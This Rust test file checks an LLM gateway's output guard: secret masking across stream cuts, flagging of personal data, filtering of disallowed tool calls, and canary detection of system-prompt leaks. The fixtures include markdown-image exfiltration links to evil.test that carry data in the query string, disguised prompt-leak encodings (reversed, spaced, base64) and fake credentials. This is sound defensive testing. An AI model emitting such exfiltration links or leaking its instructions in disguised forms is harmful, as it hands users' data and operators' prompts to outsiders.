//! Replies, whole and as streams: what must not leave does not, and everything else leaves byte for byte.

use crate::common;

use common::pipeline::{Answer, Pipeline, ask};
use proptest::prelude::*;
use serde_json::{Value, json};

const KEY: &str = "AKIAQ7EXAMPL3TE5TKXQ";
const JSON: &str = "application/json";
const SSE: &str = "text/event-stream; charset=utf-8";

fn pipeline(output: Value) -> Pipeline {
    Pipeline::new(|document| document["guards"]["standard"] = json!({ "pii": { "action": "flag" }, "output": output }))
}

fn whole(text: &str) -> Vec<u8> {
    json!({ "id": "chatcmpl-1", "object": "chat.completion", "created": 1, "model": "small",
        "choices": [{ "index": 0, "message": { "role": "assistant", "content": text }, "finish_reason": "stop" }],
        "usage": { "prompt_tokens": 3, "completion_tokens": 4, "total_tokens": 7 } })
    .to_string()
    .into_bytes()
}

fn event(delta: &Value, finish: &Value) -> String {
    let data = json!({ "id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "small",
        "choices": [{ "index": 0, "delta": delta, "finish_reason": finish }] });
    format!("data: {data}\n\n")
}

fn stream(pieces: &[&str]) -> Vec<u8> {
    let mut out = event(&json!({ "role": "assistant", "content": "" }), &Value::Null);
    for piece in pieces {
        out += &event(&json!({ "content": piece }), &Value::Null);
    }
    out += &event(&json!({}), &json!("stop"));
    (out + "data: [DONE]\n\n").into_bytes()
}

/// The text that a client puts together, and how it ended.
fn read(answer: &Answer) -> (String, String) {
    let (mut text, mut finish) = (String::new(), String::new());
    for line in answer.text().lines() {
        let Some(data) = line.strip_prefix("data: ") else { continue };
        if data == "[DONE]" {
            finish += " done";
            continue;
        }
        let choice = &serde_json::from_str::<Value>(data).unwrap()["choices"][0];
        text += choice["delta"]["content"].as_str().unwrap_or_default();
        finish += choice["finish_reason"].as_str().unwrap_or_default();
    }
    (text, finish)
}

fn content(answer: &Answer) -> String {
    let body: Value = serde_json::from_slice(&answer.body).unwrap();
    body["choices"][0]["message"]["content"].as_str().unwrap().to_owned()
}

#[test]
fn a_whole_reply_is_masked_flagged_or_refused() {
    let text = format!("Use {KEY} or write to jane@example.org.");
    let (_, answer) = pipeline(json!({})).answered(&ask("hi"), JSON, &[&whole(&text)]);
    assert_eq!(content(&answer), "Use [SECRET_1] or write to jane@example.org.");
    assert_eq!(answer.record["bartizan.verdict"], "mask");
    assert_eq!(answer.record["gen_ai.usage.output_tokens"], 4);
    let length = answer.headers.set.iter().find(|(name, _)| *name == "content-length").unwrap();
    assert_eq!(length.1, answer.body.len().to_string());
    let actions: Vec<&str> =
        answer.record["bartizan.findings"].as_array().unwrap().iter().map(|f| f["action"].as_str().unwrap()).collect();
    assert_eq!(actions, ["mask", "flag"]);

    let (_, answer) = pipeline(json!({ "pii": "hash" })).answered(&ask("hi"), JSON, &[&whole(&text)]);
    assert!(content(&answer).contains("[EMAIL_h"), "{}", content(&answer));

    let (_, answer) = pipeline(json!({ "secrets": "block" })).answered(&ask("hi"), JSON, &[&whole(&text)]);
    assert_eq!(answer.status(), "400");
    assert!(answer.text().contains("content_filter") && !answer.text().contains(KEY));
    assert_eq!(answer.record["bartizan.reason"], "scan.secret");
}

#[test]
fn weak_mode_refuses_in_the_body() {
    let mut pipeline = Pipeline::new(|document| {
        document["holdHeaders"] = json!(false);
        document["audit"] = json!({});
        document["guards"]["standard"] = json!({ "output": { "secrets": "block" } });
    });
    let (_, answer) = pipeline.answered(&ask("hi"), JSON, &[&whole(&format!("Use {KEY}."))]);
    assert_eq!(answer.status(), "200");
    assert!(answer.text().contains("content_filter") && !answer.text().contains(KEY));
    assert!(answer.headers.remove.contains(&b"content-length".to_vec()));
}

#[test]
fn a_reply_without_findings_is_not_touched() {
    let odd = b"{ \"choices\" : [ {\"index\":0 ,\"message\":{\"content\":\"caf\\u00e9 \\/ 1.50\"}} ] , \"x\":1.0e2 }\n";
    let (_, answer) = pipeline(json!({})).answered(&ask("hi"), JSON, &[odd]);
    assert_eq!(answer.body, odd);
    assert_eq!(answer.record["bartizan.verdict"], "allow");
}

#[test]
fn what_can_not_be_read_does_not_pass() {
    for (content_type, body) in [
        (JSON, &b"{\"choices\": [{]"[..]),
        (JSON, b"not json"),
        (JSON, br#"{"a":1,"a":2}"#),
        ("text/html", b"<p>hello"),
        (SSE, b"data: {broken\n\n"),
    ] {
        let (_, answer) = pipeline(json!({})).answered(&ask("hi"), content_type, &[body]);
        assert!(!answer.text().contains("broken") && !answer.text().contains("hello"), "{}", answer.text());
        assert_eq!(answer.record["bartizan.reason"], "reply.unreadable", "{content_type}");
    }
}

#[test]
fn a_reply_that_is_too_large_is_refused_and_the_rest_dropped() {
    let mut pipeline = Pipeline::new(|document| document["limits"] = json!({ "maxResponseBytes": 2000 }));
    let long = whole(&"word ".repeat(1000));
    let (_, answer) = pipeline.answered(&ask("hi"), JSON, &[&long]);
    assert_eq!((answer.status(), &answer.record["bartizan.reason"]), ("502", &json!("reply.tooLarge")));
    let event = stream(&[&"word ".repeat(1000)]);
    let (_, answer) = pipeline.answered(&ask("hi"), SSE, &[&event]);
    assert_eq!(read(&answer).1, "content_filter done");
    assert_eq!(answer.record["bartizan.reason"], "reply.tooLarge");
}

#[test]
fn tools_that_the_role_may_not_call_are_cut_out() {
    let call = |name: &str| json!({ "id": name, "type": "function", "function": { "name": name, "arguments": "{}" } });
    let reply = json!({ "choices": [{ "index": 0, "finish_reason": "tool_calls",
        "message": { "role": "assistant", "content": null, "tool_calls": [call("search_web"), call("delete_all")] } }] });
    let (_, answer) = pipeline(json!({})).answered(&ask("hi"), JSON, &[reply.to_string().as_bytes()]);
    let body: Value = serde_json::from_slice(&answer.body).unwrap();
    assert_eq!(body["choices"][0]["message"]["tool_calls"], json!([call("search_web")]));

    let mut events = event(
        &json!({ "tool_calls": [{ "index": 0, "id": "a",
        "function": { "name": "delete_all", "arguments": "" } }] }),
        &Value::Null,
    );
    events +=
        &event(&json!({ "tool_calls": [{ "index": 0, "function": { "arguments": "{\"x\":1}" } }] }), &Value::Null);
    events += &event(&json!({}), &json!("tool_calls"));
    events += "data: [DONE]\n\n";
    let (_, answer) = pipeline(json!({})).answered(&ask("hi"), SSE, &[events.as_bytes()]);
    assert!(!answer.text().contains("delete_all") && !answer.text().contains("x\\\":1"), "{}", answer.text());
    assert_eq!(read(&answer).1, "stop done");
}

#[test]
fn images_links_and_scripts_follow_the_policy() {
    let text =
        "Look: ![x](https://evil.test/p.png?d=secret) <script>x()</script> and ![y](https://docs.example.org/a.png)";
    let output = json!({ "exfiltration": "remove", "script": "remove", "allowHosts": ["docs.example.org"] });
    let (_, answer) = pipeline(output.clone()).answered(&ask("hi"), JSON, &[&whole(text)]);
    assert_eq!(content(&answer), "Look: [removed] [removed]x()</script> and ![y](https://docs.example.org/a.png)");
    let pieces: Vec<String> = text.chars().map(String::from).collect();
    let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
    let (_, streamed) = pipeline(output).answered(&ask("hi"), SSE, &[&stream(&pieces)]);
    assert_eq!(read(&streamed).0, content(&answer));
    let (_, answer) = pipeline(json!({ "exfiltration": "block" })).answered(&ask("hi"), SSE, &[&stream(&pieces)]);
    assert_eq!(read(&answer), ("Look: ".to_owned(), "content_filter done".to_owned()));
    assert_eq!(answer.record["bartizan.reason"], "scan.output");
    let (_, answer) = pipeline(json!({})).answered(&ask("hi"), SSE, &[&stream(&pieces)]);
    assert_eq!(read(&answer).0, text);
    assert_eq!(answer.record["bartizan.findings"][0]["rule"], "output.exfiltration");
}

#[test]
fn a_secret_is_masked_across_every_boundary() {
    for secret in [KEY, "ghp_R4nd0mT0kenThatIsNotReal1234567890AB", "postgres://app:Xq7mZ2vLw9Rt@db.internal:5432/x"] {
        let text = format!("The key is {secret} as you asked. Anything else?");
        let expected = {
            let (_, answer) = pipeline(json!({})).answered(&ask("hi"), JSON, &[&whole(&text)]);
            content(&answer)
        };
        assert!(!expected.contains(secret) && expected.contains("[SECRET_1]"), "{expected}");
        let mut pipeline = pipeline(json!({}));
        for cut in 0..=text.len() {
            let (_, answer) = pipeline.answered(&ask("hi"), SSE, &[&stream(&[&text[..cut], &text[cut..]])]);
            assert_eq!(read(&answer), (expected.clone(), "stop done".to_owned()), "{cut}");
        }
    }
}

#[test]
fn a_stream_is_asked_for_its_counts_and_the_client_sees_none_it_did_not_ask_for() {
    let counts = json!({ "id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "small", "choices": [],
        "usage": { "prompt_tokens": 30, "completion_tokens": 5, "total_tokens": 35,
            "prompt_tokens_details": { "cached_tokens": 20 } } });
    let without = stream(&["Two ", "towers."]);
    let at = without.len() - "data: [DONE]\n\n".len();
    let mut with = without.clone();
    with.splice(at..at, format!("data: {counts}\n\n").into_bytes());
    let asking = |options: Value| {
        let mut ask = ask("hi");
        ask["stream"] = json!(true);
        if !options.is_null() {
            ask["stream_options"] = options;
        }
        ask
    };
    let mut asked = Pipeline::new(|document| document["audit"]["usage"] = json!(true));
    for (options, sees) in
        [(Value::Null, false), (json!({ "include_usage": false }), false), (json!({ "include_usage": true }), true)]
    {
        let (sent, answer) = asked.answered(&asking(options), SSE, &[&with]);
        let sent: Value = serde_json::from_slice(&sent).unwrap();
        assert_eq!(sent["stream_options"]["include_usage"], true);
        assert_eq!(answer.body, if sees { &with } else { &without }.as_slice());
        assert_eq!(answer.record["gen_ai.usage.input_tokens"], 30);
        assert_eq!(answer.record["gen_ai.usage.output_tokens"], 5);
        assert_eq!(answer.record["gen_ai.usage.cache_read.input_tokens"], 20);
        assert_eq!(answer.record["bartizan.verdict"], "allow");
    }
    // Without the switch nothing is asked, and what comes is passed on.
    let (sent, answer) = pipeline(json!({})).answered(&asking(Value::Null), SSE, &[&with]);
    assert!(!String::from_utf8(sent).unwrap().contains("stream_options"));
    assert_eq!(answer.body, with);
    // A reply that is no stream is not asked for.
    let (sent, _) = asked.answered(&ask("hi"), JSON, &[&whole("ok")]);
    assert!(!String::from_utf8(sent).unwrap().contains("stream_options"));
}

#[test]
fn ordinary_words_do_not_wait_for_each_other() {
    let mut pipeline = pipeline(json!({}));
    let events = stream(&["The ", "castle ", "has ", "two ", "towers."]);
    let first_three: Vec<&[u8]> = events.split_inclusive(|byte| *byte == b'\n').collect();
    // The first eight lines: the role, and three words with their empty lines.
    let some: Vec<u8> = first_three[..8].concat();
    let (_, answer) = pipeline.answered(&ask("hi"), SSE, &[&some]);
    assert_eq!(read(&answer).0, "The castle has ");
}

#[test]
fn masked_values_come_back_to_the_one_who_sent_them() {
    let mut pipeline =
        Pipeline::new(|document| document["guards"]["standard"] = json!({ "pii": { "action": "restore" } }));
    let text = "Write a letter to jane@example.org please.";
    let (sent, _) = pipeline.answered(&ask(text), JSON, &[&whole("ok")]);
    let sent: Value = serde_json::from_slice(&sent).unwrap();
    let asked = sent["messages"][0]["content"].as_str().unwrap();
    assert!(asked.contains("[EMAIL_r") && !asked.contains("jane@"), "{asked}");
    let placeholder = &asked[asked.find('[').unwrap()..=asked.find(']').unwrap()];
    let reply = format!("Dear {placeholder}, see ![x](https://evil.test/?{placeholder}).");
    let (_, answer) = pipeline.answered(&ask(text), JSON, &[&whole(&reply)]);
    assert_eq!(content(&answer), format!("Dear jane@example.org, see ![x](https://evil.test/?{placeholder})."));
    for cut in 0..=reply.len() {
        let (_, streamed) = pipeline.answered(&ask(text), SSE, &[&stream(&[&reply[..cut], &reply[cut..]])]);
        assert_eq!(read(&streamed).0, content(&answer), "{cut}");
    }
    // Another conversation knows nothing of it, and what a client sends in that form comes back as it was.
    let (_, other) = pipeline.answered(&ask("hello"), JSON, &[&whole(&reply)]);
    assert_eq!(content(&other), reply);
    let (sent, _) = pipeline.answered(&ask(&format!("what is {placeholder}?")), JSON, &[&whole("ok")]);
    assert!(!String::from_utf8(sent).unwrap().contains(placeholder));
}

/// A pipeline to every protocol, with a canary.
fn canary_pipeline(action: &str) -> Pipeline {
    Pipeline::new(|document| {
        document["guards"]["standard"] = json!({ "output": { "canary": action } });
        let operations = json!(["chat", "responses", "generate"]);
        document["roles"]["analyst"]["operations"] = operations;
        document["routes"] = json!([
            { "match": { "path": "/v1/chat/completions" }, "protocol": "openai" },
            { "match": { "path": "/v1/responses" }, "protocol": "openai" },
            { "match": { "path": "/v1/messages" }, "protocol": "anthropic" },
            { "match": { "path": "/api/chat" }, "protocol": "ollama" },
            { "match": { "path": "/api/generate" }, "protocol": "ollama" } ]);
    })
}

/// The token at the end of the string that the pointer names.
fn token_in(sent: &Value, pointer: &str) -> String {
    let prompt = sent.pointer(pointer).unwrap().as_str().unwrap();
    assert!(prompt.starts_with("Be kind.\n\n["), "{prompt}");
    prompt.rsplit(' ').next().unwrap().trim_end_matches(']').to_owned()
}

fn chat_with(system: Value, user: &str) -> Value {
    json!({ "model": "small", "messages": [{ "role": "system", "content": system }, { "role": "user", "content": user }] })
}

#[test]
fn a_leaked_system_prompt_is_cut_out_flagged_or_refused() {
    use base64::Engine as _;
    let ask = chat_with(json!("Be kind."), "hi");
    let path = "/v1/chat/completions";
    let disguises: [fn(&str) -> String; 5] = [
        |token| token.to_owned(),
        |token| token.to_uppercase().chars().rev().collect(),
        |token| token.chars().map(String::from).collect::<Vec<_>>().join(" "),
        |token| token.chars().map(String::from).collect::<Vec<_>>().join("\u{200b}-"),
        |token| base64::engine::general_purpose::STANDARD.encode(format!("marker: {token}!")),
    ];
    for disguise in disguises {
        let said = |sent: &Value| format!("It says: {} and so on", disguise(&token_in(sent, "/messages/0/content")));
        for (action, finish, reason) in
            [("remove", "stop done", Value::Null), ("block", "content_filter done", json!("scan.canary"))]
        {
            let mut pipeline = canary_pipeline(action);
            let mut token = String::new();
            let (_, answer) = pipeline.answered_at(path, &ask, SSE, |sent| {
                token = token_in(sent, "/messages/0/content");
                let said = said(sent);
                let pieces: Vec<String> = said.chars().map(String::from).collect();
                vec![stream(&pieces.iter().map(String::as_str).collect::<Vec<_>>())]
            });
            let (text, finished) = read(&answer);
            assert_eq!((finished.as_str(), &answer.record["bartizan.reason"]), (finish, &reason), "{text}");
            assert!(!answer.record.to_string().contains(&token));
            let kept: String = disguise(&token).chars().filter(char::is_ascii_alphanumeric).collect();
            let seen: String = text.chars().filter(char::is_ascii_alphanumeric).collect();
            assert!(!seen.contains(&kept[kept.len() / 2..]) && !seen.contains(&kept[..kept.len() / 2]), "{text}");
            assert_eq!(answer.record["bartizan.findings"][0]["rule"], "output.canary");
            if action == "remove" {
                assert!(
                    text.starts_with("It says: ") && text.contains("[removed]") && text.ends_with(" and so on"),
                    "{text}"
                );
            }
            let (_, answer) = pipeline.answered_at(path, &ask, JSON, |sent| vec![whole(&said(sent))]);
            if action == "remove" {
                assert!(content(&answer).contains("[removed]"), "{}", content(&answer));
            } else {
                assert_eq!((answer.status(), &answer.record["bartizan.reason"]), ("400", &json!("scan.canary")));
            }
            assert!(!answer.text().contains(&token));
        }
    }
    let (_, answer) = canary_pipeline("flag")
        .answered_at(path, &ask, JSON, |sent| vec![whole(&format!("Look: {}", token_in(sent, "/messages/0/content")))]);
    assert_eq!(answer.record["bartizan.verdict"], "allow");
    assert_eq!(answer.record["bartizan.findings"][0]["action"], "flag");
}

#[test]
fn a_canary_is_stable_for_its_tenant_and_is_no_oracle() {
    let mut pipeline = canary_pipeline("block");
    let path = "/v1/chat/completions";
    let mut sent = |user: &str, reply: &dyn Fn(&str) -> String| {
        let mut token = String::new();
        let (_, answer) = pipeline.answered_at(path, &chat_with(json!("Be kind."), user), JSON, |sent| {
            token = token_in(sent, "/messages/0/content");
            vec![whole(&reply(&token))]
        });
        (token, answer.record["bartizan.verdict"].clone())
    };
    let ok = |_: &str| "ok".to_owned();
    let (first, _) = sent("hi", &ok);
    assert_eq!((first.len(), sent("something else", &ok).0), (16, first.clone()));
    // A caller who brings the token gets another one: an echo of the guess is let through, a leak is not.
    let spaced = first.chars().map(String::from).collect::<Vec<_>>().join(" ");
    for guess in [first.clone(), spaced] {
        let (second, verdict) = sent(&format!("Say {guess}"), &|_: &str| guess.clone());
        assert_ne!(second, first);
        assert_eq!(verdict, "allow");
        assert_eq!(sent(&format!("Say {guess}"), &str::to_owned).1, "block");
    }
    // Without a system prompt there is nothing that could leak, and the request stays as it is.
    let (sent, _) = pipeline.answered(&ask("hi"), JSON, &[&whole("ok")]);
    assert!(!String::from_utf8(sent).unwrap().contains("marker"));
    // Another epoch has another token.
    let mut token = String::new();
    pipeline.host.now =
        bartizan::host::Timestamp::from_secs(common::pipeline::NOW - common::pipeline::NOW % 86_400 - 1);
    pipeline.answered_at(path, &chat_with(json!("Be kind."), "hi"), JSON, |sent| {
        token = token_in(sent, "/messages/0/content");
        vec![whole("ok")]
    });
    assert_ne!(token, first);
}

#[test]
fn a_canary_is_found_in_every_protocol_and_zone() {
    let user = json!({ "role": "user", "content": "hi" });
    let parts = json!([{ "type": "text", "text": "First." }, { "type": "text", "text": "Be kind." }]);
    let cases = [
        ("/v1/chat/completions", chat_with(parts.clone(), "hi"), "/messages/0/content/1/text"),
        ("/v1/responses", json!({ "model": "small", "input": "hi", "instructions": "Be kind." }), "/instructions"),
        (
            "/v1/responses",
            json!({ "model": "small", "input": [{ "role": "developer", "content": "Be kind." }, user] }),
            "/input/0/content",
        ),
        (
            "/v1/messages",
            json!({ "model": "small", "max_tokens": 9, "messages": [user], "system": "Be kind." }),
            "/system",
        ),
        (
            "/v1/messages",
            json!({ "model": "small", "max_tokens": 9, "messages": [user], "system": parts }),
            "/system/1/text",
        ),
        (
            "/api/chat",
            json!({ "model": "small", "messages": [{ "role": "system", "content": "Be kind." }, user] }),
            "/messages/0/content",
        ),
        ("/api/generate", json!({ "model": "small", "system": "Be kind.", "prompt": "hi" }), "/system"),
    ];
    for (path, ask, place) in cases {
        let mut pipeline = canary_pipeline("remove");
        let replies = |token: &str| match path {
            "/v1/chat/completions" => vec![
                json!({ "choices": [{ "message": { "role": "assistant", "content": "x", "reasoning_content": token } }] }),
                json!({ "choices": [{ "message": { "role": "assistant", "content": null, "tool_calls": [{ "id": "a",
                    "type": "function", "function": { "name": "search_x", "arguments": format!("{{\"q\":\"{token}\"}}") } }] } }] }),
            ],
            "/v1/responses" => vec![json!({ "instructions": null, "output": [{ "type": "message", "id": "m",
                "role": "assistant", "content": [{ "type": "output_text", "text": token, "annotations": [] }] }] })],
            "/v1/messages" => vec![
                json!({ "content": [{ "type": "text", "text": token }] }),
                json!({ "content": [{ "type": "thinking", "thinking": token, "signature": "s" }] }),
                json!({ "content": [{ "type": "tool_use", "id": "a", "name": "search_x", "input": { "q": token } }] }),
            ],
            "/api/chat" => vec![json!({ "message": { "role": "assistant", "content": token }, "done": true })],
            _ => vec![json!({ "response": token, "done": true, "context": [1, 2] })],
        };
        let count = replies("x").len();
        for number in 0..count {
            let mut token = String::new();
            let (_, answer) = pipeline.answered_at(path, &ask, JSON, |sent| {
                token = token_in(sent, place);
                vec![replies(&token)[number].to_string().into_bytes()]
            });
            assert!(answer.text().contains("[removed]") && !answer.text().contains(&token), "{path} {}", answer.text());
        }
    }
    // A provider that says the instructions again gives the client its own back.
    let ask = json!({ "model": "small", "input": "hi", "instructions": "Be kind." });
    let (_, answer) = canary_pipeline("block").answered_at("/v1/responses", &ask, JSON, |sent| {
        vec![json!({ "instructions": sent["instructions"], "output": [] }).to_string().into_bytes()]
    });
    assert_eq!(serde_json::from_slice::<Value>(&answer.body).unwrap()["instructions"], "Be kind.");
}

/// Numbers that look like any, the same in every run.
struct Dice(u64);

impl Dice {
    fn below(&mut self, limit: usize) -> usize {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) as usize % limit.max(1)
    }
}

/// A thousand streams, each cut at random and at one place in or beside its secret: every place has its turn many
/// times, in the text as in the bytes on the wire.
#[test]
fn a_thousand_streams_cut_anywhere_give_no_secret_away() {
    const SECRETS: [&str; 3] =
        [KEY, "ghp_R4nd0mT0kenThatIsNotReal1234567890AB", "postgres://app:Xq7mZ2vLw9Rt@db.internal:5432/x"];
    const WORDS: [&str; 8] =
        ["the ", "castle ", "has ", "12 towers, ", "and a café. ", "北の塔 ", "Nobody ", "knows: "];
    let mut pipeline = Pipeline::new(|document| document["roles"]["analyst"]["quotas"] = json!([]));
    let mut dice = Dice(7);
    let mut places = std::collections::BTreeSet::new();
    for number in 0..1000 {
        let secret = SECRETS[number % SECRETS.len()];
        let mut text = String::new();
        (0..dice.below(12)).for_each(|_| text += WORDS[dice.below(WORDS.len())]);
        text += "Key: ";
        let start = text.len();
        text += secret;
        text += " ";
        (0..dice.below(12)).for_each(|_| text += WORDS[dice.below(WORDS.len())]);
        let place = (number / SECRETS.len()) % (secret.len() + 3);
        places.insert((number % SECRETS.len(), place));
        let mut cuts: Vec<usize> =
            (0..dice.below(8)).map(|_| text.floor_char_boundary(dice.below(text.len()))).collect();
        cuts.extend([0, (start + place).saturating_sub(1), text.len()]);
        cuts.sort_unstable();
        let pieces: Vec<&str> = cuts.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect();
        let events = stream(&pieces);
        let at = events.windows(3).position(|three| three == &secret.as_bytes()[..3]).unwrap_or(events.len() / 2);
        let mut cuts: Vec<usize> = (0..dice.below(8)).map(|_| dice.below(events.len())).collect();
        cuts.extend([0, (at + place).min(events.len()), events.len()]);
        cuts.sort_unstable();
        let chunks: Vec<&[u8]> = cuts.windows(2).map(|pair| &events[pair[0]..pair[1]]).collect();
        let (_, answer) = pipeline.answered(&ask("hi"), SSE, &chunks);
        let (_, whole) = pipeline.answered(&ask("hi"), JSON, &[&whole(&text)]);
        let expected = content(&whole);
        assert!(!expected.contains(secret) && expected.contains("[SECRET_1]"), "{expected}");
        assert_eq!(read(&answer), (expected, "stop done".to_owned()), "stream {number}");
    }
    assert_eq!(places.len(), SECRETS.iter().map(|secret| secret.len() + 3).sum::<usize>(), "every place was cut");
}

/// A text of a reply that is over the scanner's bounds is one that was not scanned: `unscanned.budget` decides, as for
/// requests, and the record says so.
#[test]
fn a_reply_that_was_not_scanned_whole_is_recorded_and_the_policy_decides() {
    use base64::Engine as _;
    let encoded = |text: String| base64::engine::general_purpose::STANDARD.encode(text);
    let nested = |depth: usize| (0..depth).fold(format!("aws_access_key_id = {KEY}"), |text, _| encoded(text));
    let escaped = |depth: usize| format!("say &{}lt;b and so on", "amp;".repeat(depth));
    let many = "a@b.eu ".repeat(20_000);
    let cases = [
        (nested(3), true),
        (nested(4), false),
        (nested(6), false),
        (escaped(2), true),
        (escaped(12), false),
        (many[..700].to_owned(), true),
        (many, false),
    ];
    for (text, is_complete) in cases {
        for action in ["deny", "flag"] {
            let mut pipeline = Pipeline::new(|document| {
                document["guards"]["standard"] = json!({ "output": { "pii": "flag", "secrets": "flag" } });
                document["unscanned"] = json!({ "budget": action });
            });
            let (_, answer) = pipeline.answered(&ask("hi"), JSON, &[&whole(&text)]);
            let told = (&answer.record["bartizan.reason"], &answer.record["bartizan.unscanned"]);
            let shown = text.get(..40).unwrap_or(&text);
            match (is_complete, action) {
                (true, _) => assert_eq!(told, (&Value::Null, &Value::Null), "{shown}"),
                (false, "deny") => assert_eq!(told, (&json!("reply.unreadable"), &json!(["budget"])), "{shown}"),
                (false, _) => assert_eq!(told, (&Value::Null, &json!(["budget"])), "{shown}"),
            }
            assert_eq!(answer.text().contains(&text), is_complete || action == "flag", "{shown}");
            // Pieces of a stream may each be within the bounds.
            let (_, streamed) = pipeline.answered(&ask("hi"), SSE, &[&stream(&[&text])]);
            if streamed.record["bartizan.unscanned"] == json!(["budget"]) && action == "deny" {
                assert_eq!(streamed.record["bartizan.reason"], "reply.unreadable", "{shown}");
                assert!(!streamed.text().contains(&text), "{shown}");
            }
        }
    }
}

/// Compiling the rules takes longer than a case.
static PIPELINE: std::sync::LazyLock<std::sync::Mutex<Pipeline>> =
    std::sync::LazyLock::new(|| pipeline(json!({})).into());

proptest! {
    #![proptest_config(ProptestConfig { max_shrink_iters: 200, ..ProptestConfig::with_cases(40) })]

    /// A thousand streams of any words and cuts: nothing found, nothing changed; something found, nothing left of it.
    #[test]
    fn any_cutting_of_a_stream_gives_the_same_text(
        words in prop::collection::vec(prop_oneof![
            8 => "[a-z]{1,9}[ .,]{0,2}",
            1 => Just(format!(" {KEY} ")),
            1 => Just("é中文 ".to_owned()),
            1 => Just("12 March 1985 ".to_owned()),
        ], 1..40),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..20),
        bytes in prop::collection::vec(any::<prop::sample::Index>(), 0..20),
    ) {
        let text = words.concat();
        let mut pipeline = PIPELINE.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
        let split = |places: &[prop::sample::Index], length: usize, floor: &dyn Fn(usize) -> usize| {
            let mut at: Vec<usize> = places.iter().map(|place| floor(place.index(length + 1))).collect();
            at.extend([0, length]);
            at.sort_unstable();
            at
        };
        let at = split(&cuts, text.len(), &|place| text.floor_char_boundary(place));
        let pieces: Vec<&str> = at.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect();
        let events = stream(&pieces);
        let at = split(&bytes, events.len(), &|place| place);
        let chunks: Vec<&[u8]> = at.windows(2).map(|pair| &events[pair[0]..pair[1]]).collect();
        let (_, answer) = pipeline.answered(&ask("hi"), SSE, &chunks);
        let (masked, finish) = read(&answer);
        prop_assert_eq!(finish, "stop done");
        if text.contains(KEY) {
            prop_assert!(!masked.contains(KEY));
        } else if answer.record["bartizan.verdict"] == "allow" {
            prop_assert_eq!(answer.body, events);
        }
        let (_, whole) = pipeline.answered(&ask("hi"), JSON, &[&whole(&text)]);
        prop_assert_eq!(masked, content(&whole));
    }
}
